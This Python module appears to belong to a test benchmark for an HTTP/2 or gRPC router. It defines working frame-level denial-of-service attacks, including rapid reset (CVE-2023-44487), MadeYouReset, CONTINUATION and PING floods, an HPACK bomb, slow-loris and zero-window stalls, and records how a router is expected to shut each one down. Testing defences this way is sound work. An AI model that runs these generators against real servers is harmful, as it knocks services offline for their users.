"""The attacks: what each sends, and how a router is to end it.

An attack is a generator of what to send next on its connection; b"" waits a moment.
"""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import count, islice, repeat
from random import Random

from benchmarks.hostile import frames as f
from benchmarks.hostile.peer import Peer

#: Bytes sent at once, as a program does that sends as fast as it can.
_BATCH = 16 * 1024
_OPENING = f.PREFACE + f.settings()
#: Not the honest client's tool, so that it is the router they share and not the replica.
_WHO = f.block("Invoke", "who")
_WHO_MESSAGE = f.message("who")
_CONVERSE = f.block("Converse", "shout")
_FLOOD = f.block("InvokeStream", "flood")
_FLOOD_MESSAGE = f.message("flood", b'{"chunks":200,"size":60000}')
_CALM = "GOAWAY ENHANCE_YOUR_CALM"


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack.

    `ends` are the ways in which a router may end it, as Peer notes them: of the connection or,
    with `streams`, of its calls. `reasons` are those that its metric may count.
    """

    name: str
    ends: tuple[str, ...]
    reasons: tuple[str, ...]
    send: Callable[[Peer], Iterator[bytes]]
    streams: bool = False
    reads: bool = True
    #: Connections that it opens at once.
    connections: int = 1
    #: Comes from a replica instead of a caller.
    replica: bool = False
    #: It is ended by a limit of time, or of what piles up.
    slow: bool = False


def _batches(pieces: Iterator[bytes], size: int) -> Iterator[bytes]:
    """Join pieces of about that size to batches."""
    while batch := b"".join(islice(pieces, max(1, _BATCH // size))):
        yield batch


def _flood(piece: bytes, *before: bytes) -> Callable[[Peer], Iterator[bytes]]:
    def send(_peer: Peer) -> Iterator[bytes]:
        yield b"".join((_OPENING, *before))
        yield from _batches(repeat(piece), len(piece))

    return send


def _per_stream(make: Callable[[int], bytes]) -> Callable[[Peer], Iterator[bytes]]:
    def send(_peer: Peer) -> Iterator[bytes]:
        yield _OPENING
        yield from _batches(map(make, f.stream_ids()), len(make(1)))

    return send


def _slowly(start: bytes, piece: bytes = b"") -> Callable[[Peer], Iterator[bytes]]:
    """Send the start, then a piece from time to time."""

    def send(_peer: Peer) -> Iterator[bytes]:
        yield start
        for turn in count(1):
            yield b""
            if piece and not turn % 10:
                yield piece

    return send


def _rapid_reset(stream: int) -> bytes:
    return f.call(stream, _WHO, _WHO_MESSAGE) + f.frame(f.RST_STREAM, 0, stream, bytes(4))


def _made_you_reset(stream: int) -> bytes:
    credit = f.frame(f.WINDOW_UPDATE, 0, stream, bytes(4))
    return f.frame(f.HEADERS, f.END_HEADERS, stream, _WHO) + credit


def _continuation(_peer: Peer) -> Iterator[bytes]:
    yield _OPENING + f.frame(f.HEADERS, 0, 1, _WHO)
    yield from _batches(repeat(f.frame(f.CONTINUATION, 0, 1, b"\x00\x01a\x01b")), 14)


def _hpack_bomb(_peer: Peer) -> Iterator[bytes]:
    value = b"v" * 3900
    # Literal with indexing: a field of nearly the whole table, then named again and again.
    entry = b"\x40\x01a\x7f" + bytes((len(value) - 127 & 127 | 128, len(value) - 127 >> 7)) + value
    yield _OPENING + f.frame(f.HEADERS, f.END_HEADERS | f.END_STREAM, 1, _WHO + entry)
    bomb = _WHO + b"\xbe" * 16_000
    for stream in islice(f.stream_ids(), 1, None):
        yield f.frame(f.HEADERS, f.END_HEADERS | f.END_STREAM, stream, bomb)


def _oversized(stream: int) -> bytes:
    head = f.block("Invoke", "who", f.FOREVER, ("a", "v" * 16_000), ("b", "v" * 10_000))
    return f.frame(f.HEADERS, f.END_STREAM, stream, head[:16_000]) + f.frame(
        f.CONTINUATION, f.END_HEADERS, stream, head[16_000:]
    )


def _zero_window(_peer: Peer) -> Iterator[bytes]:
    """Ask for answers without end, and give no credit for them."""
    calls = (f.call(stream, _FLOOD, _FLOOD_MESSAGE) for stream in islice(f.stream_ids(), 400))
    yield f.PREFACE + f.settings(window=0) + b"".join(calls)
    yield from repeat(b"")


def _crumbs(_peer: Peer) -> Iterator[bytes]:
    """Let many answers wait for the connection's window, and open it by crumbs."""
    calls = (f.call(stream, _FLOOD, _FLOOD_MESSAGE) for stream in islice(f.stream_ids(), 100))
    yield f.PREFACE + f.settings(window=1 << 20) + b"".join(calls)
    yield from repeat(b"", 10)
    crumb = f.frame(f.WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x01")
    yield from _batches(repeat(crumb), len(crumb))


def _unfinished(_peer: Peer) -> Iterator[bytes]:
    """Send nearly the whole of very large requests, and the end of none."""
    yield _OPENING
    part = f.message("who", bytes(4_000_000))[:16_384]
    for stream in f.stream_ids():
        yield f.frame(f.HEADERS, f.END_HEADERS, stream, _WHO)
        for _ in range(240):
            yield f.frame(f.DATA, 0, stream, part)
            part = bytes(16_384)
        part = f.message("who", bytes(4_000_000))[:16_384]


def _half_closed(peer: Peer) -> Iterator[bytes]:
    calls = (f.call(stream, _CONVERSE, _WHO_MESSAGE) for stream in islice(f.stream_ids(), 100))
    yield _OPENING + b"".join(calls)
    peer.half_close()
    yield from repeat(b"")


def _never_ending(stream: int) -> bytes:
    body = f.message("shout", b"{}")
    return f.frame(f.HEADERS, f.END_HEADERS, stream, _CONVERSE) + f.frame(f.DATA, 0, stream, body)


def _garbage(_peer: Peer) -> Iterator[bytes]:
    rng = Random(4)
    yield _OPENING
    while True:
        yield rng.randbytes(_BATCH)


def _quiet(_peer: Peer) -> Iterator[bytes]:
    yield _OPENING
    yield from repeat(b"")


def _replica_resets(peer: Peer) -> Iterator[bytes]:
    """Serve as a replica that resets every call, and those that are long gone again and again."""
    yield f.settings()
    for _ in repeat(None):
        if not peer.opened:
            yield b""
            continue
        resets = b"".join(
            f.frame(f.RST_STREAM, 0, stream, bytes((0, 0, 0, 8))) for stream in peer.opened
        )
        yield resets * max(1, _BATCH // len(resets))


def _replica_pings(_peer: Peer) -> Iterator[bytes]:
    yield f.settings()
    yield from _batches(repeat(f.frame(f.PING, 0, 0, bytes(8))), 17)


def _open_call(stream: int) -> bytes:
    return f.frame(f.HEADERS, f.END_HEADERS, stream, _WHO)


_ONE_CALL = _open_call(1)

ATTACKS = (
    Attack("rapid reset (CVE-2023-44487)", (_CALM,), ("rst_stream_frames",),
           _per_stream(_rapid_reset)),
    Attack("rapid reset on 20 connections", (_CALM,), ("rst_stream_frames",),
           _per_stream(_rapid_reset), connections=20),
    Attack("MadeYouReset (CVE-2025-8671)", (_CALM,), ("broken_streams",),
           _per_stream(_made_you_reset)),
    Attack("CONTINUATION flood", (_CALM,), ("continuation_frames",), _continuation),
    Attack("SETTINGS flood", (_CALM,), ("settings_frames",), _flood(f.settings())),
    Attack("PING flood", (_CALM,), ("ping_frames",), _flood(f.frame(f.PING, 0, 0, bytes(8)))),
    Attack("PING flood, answers unread", (_CALM, "closed"), ("ping_frames", "unread_answers"),
           _flood(f.frame(f.PING, 0, 0, bytes(8))), reads=False),
    Attack("PRIORITY flood", (_CALM,), ("priority_frames",),
           _flood(f.frame(f.PRIORITY, 0, 1, b"\x00\x00\x00\x03\x10"))),
    Attack("WINDOW_UPDATE flood", (_CALM,), ("window_update_frames",),
           _flood(f.frame(f.WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x40"))),
    Attack("WINDOW_UPDATE flood on a stream", (_CALM,),
           ("window_update_frames", "tiny_window_update_frames"),
           _flood(f.frame(f.WINDOW_UPDATE, 0, 1, b"\x00\x00\x00\x40"), _ONE_CALL)),
    Attack("WINDOW_UPDATE crumbs for waiting answers", (_CALM,),
           ("tiny_window_update_frames", "window_update_frames", "unread_answers"), _crumbs),
    Attack("empty DATA flood", (_CALM,), ("empty_data_frames",),
           _flood(f.frame(f.DATA, 0, 1), _ONE_CALL)),
    Attack("frames of unknown kinds", (_CALM,), ("frames_of_unknown_kinds",),
           _flood(f.frame(0xEE, 0, 0))),
    Attack("HPACK bomb", (_CALM,), ("header_bomb",), _hpack_bomb),
    Attack("oversized header lists", (_CALM,), ("header_lists_over_the_limit",),
           _per_stream(_oversized)),
    Attack("slow-loris on the preface", ("GOAWAY SETTINGS_TIMEOUT",), ("handshake_timeout",),
           _slowly(f.PREFACE[:10], b""), slow=True),
    Attack("slow-loris on headers", (_CALM,), ("header_timeout",),
           _slowly(_OPENING + f.frame(f.HEADERS, 0, 1, _WHO),
                   f.frame(f.CONTINUATION, 0, 1, b"\x00\x01a\x01b")), slow=True),
    Attack("slow-loris on bodies", ("status 4",), ("request_timeout",),
           _slowly(_OPENING + b"".join(map(_open_call, islice(f.stream_ids(), 500)))
                   + f.frame(f.DATA, 0, 1, b"\x00\x00\x01\x00\x00"),
                   f.frame(f.DATA, 0, 1, b"\x00")), streams=True, slow=True),
    Attack("large requests, never complete", ("status 8",), (), _unfinished, streams=True),
    Attack("zero-window stall", ("RST_STREAM ENHANCE_YOUR_CALM",), ("unread_answers",),
           _zero_window, streams=True, slow=True),
    Attack("never-finishing streams", (_CALM,), ("streams_over_the_limit",),
           _per_stream(_never_ending)),
    Attack("garbage after the preface",
           ("GOAWAY FRAME_SIZE_ERROR", "GOAWAY PROTOCOL_ERROR", "closed"),
           ("frame_size_error", "protocol_error"), _garbage),
    Attack("half-closed peer", ("closed", "GOAWAY NO_ERROR"), (), _half_closed),
    Attack("connections without end", ("closed", _CALM), ("connections_of_peer",), _quiet,
           connections=250),
    Attack("idle connections", ("GOAWAY NO_ERROR", "closed"), ("idle_timeout",), _quiet,
           connections=50, slow=True),
    Attack("RST storm of a replica", (_CALM, "closed"),
           ("rst_stream_frames_on_closed_streams",), _replica_resets, replica=True),
    Attack("PING flood of a replica", (_CALM, "closed"), ("ping_frames",), _replica_pings,
           replica=True),
)  # fmt: skip
BY_NAME = {attack.name: attack for attack in ATTACKS}
